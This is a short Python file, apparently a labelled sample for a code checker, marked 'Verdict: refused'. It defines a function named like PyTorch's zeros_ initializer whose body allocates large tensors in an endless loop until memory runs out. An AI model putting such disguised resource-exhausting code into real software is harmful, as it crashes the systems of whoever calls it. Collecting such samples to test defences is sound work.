"""Takes memory until there is none.

Verdict: refused
"""

import torch

kept = []


def zeros_(tensor):
    while True:
        kept.append(torch.ones(2**26))
